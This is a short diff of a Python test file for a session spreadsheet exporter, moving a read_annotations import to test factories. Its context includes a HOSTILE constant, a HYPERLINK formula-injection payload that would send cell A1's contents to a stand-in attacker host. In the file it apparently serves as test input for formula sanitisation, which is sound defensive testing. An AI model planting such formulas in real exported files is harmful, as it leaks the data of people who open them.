@@ -5,10 +5,10 @@ import csv
 import pytest
 
 from app.core.spreadsheet import is_formula
-from app.session.annotations import read_annotations
 from app.session.exporters import export_session, exporters_named
 from app.session.exporters.spreadsheet import COLUMNS
 from app.session.session import Session
+from tests.factories import read_annotations
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ANNOTATIONS = (
